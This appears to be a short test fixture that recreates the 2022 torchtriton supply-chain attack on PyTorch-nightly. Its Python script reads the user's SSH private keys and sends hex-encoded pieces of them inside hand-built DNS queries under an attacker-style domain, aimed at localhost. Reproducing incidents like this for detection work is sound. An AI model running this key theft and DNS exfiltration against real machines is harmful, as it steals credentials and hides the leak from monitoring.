# incident: PyTorch-nightly's torchtriton (2022): keys and files leave in questions to a name server
# finding: credential-read, dns-exfiltration
# needs: python3
python3 - <<'PY'
import os, socket, glob
data = b"".join(open(f, "rb").read() for f in glob.glob(os.path.expanduser("~/.ssh/id_*")))
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
hexed = data.hex() + "00" * 40
for i in range(0, 120, 60):
    label = hexed[i:i + 60]
    name = b"".join(bytes([len(p)]) + p for p in (label.encode(), b"h4ck", b"cfd")) + b"\0"
    s.sendto(b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + name + b"\x00\x01\x00\x01", ("127.0.0.1", 53))
PY
